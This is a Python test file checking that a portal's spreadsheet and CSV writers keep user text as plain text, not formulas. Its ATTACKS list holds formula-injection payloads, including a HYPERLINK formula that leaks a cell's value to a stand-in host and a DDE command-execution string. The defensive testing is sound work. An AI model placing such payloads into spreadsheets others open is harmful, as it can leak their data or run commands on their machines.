"""The one spreadsheet writer (issue 13 item 1): user text reaches Excel as text, never a formula."""

import io

import pytest
from openpyxl import Workbook, load_workbook

from portal.spreadsheets import cell_set, csv_field, row_append

ATTACKS = [
    '=HYPERLINK("http://evil.example/?leak="&B2,"ดู")',
    "=cmd|' /C calc'!A0",
    "+SUM(1,2)",
    "-2+3",
    "@SUM(A1)",
    "\t=1+1",
    "#N/A",
]


def _reopen(book):
    buffer = io.BytesIO()
    book.save(buffer)
    return load_workbook(io.BytesIO(buffer.getvalue()))


@pytest.mark.parametrize("write_only", [False, True])
def test_appended_strings_stay_text_in_both_sheet_kinds(write_only):
    book = Workbook(write_only=write_only)
    sheet = book.create_sheet("x") if write_only else book.active
    row_append(sheet, ATTACKS + [1500000, None, "ธรรมดา"])
    cells = list(_reopen(book).worksheets[0].iter_rows())[0]
    for cell, text in zip(cells, ATTACKS):
        assert cell.data_type == "s" and cell.value == text
    assert cells[len(ATTACKS)].value == 1500000 and cells[len(ATTACKS)].data_type == "n"
    assert cells[len(ATTACKS) + 2].value == "ธรรมดา"


def test_a_set_cell_is_text_and_quote_prefixed_when_it_looks_like_a_formula():
    book = Workbook()
    cell_set(book.active, 2, 3, ATTACKS[0])
    cell = _reopen(book).active.cell(row=2, column=3)
    assert cell.data_type == "s" and cell.value == ATTACKS[0] and cell.quotePrefix


def test_control_characters_that_xlsx_cannot_hold_are_dropped_not_a_500():
    book = Workbook()
    row_append(book.active, ["ฝาย\x07น้ำล้น"])
    assert _reopen(book).active["A1"].value == "ฝายน้ำล้น"


def test_csv_fields_that_start_a_formula_get_a_leading_quote():
    assert [csv_field(text) for text in ATTACKS[:6]] == ["'" + text for text in ATTACKS[:6]]
    assert csv_field("ฝาย") == "ฝาย" and csv_field(-5) == "-5" and csv_field(None) == ""
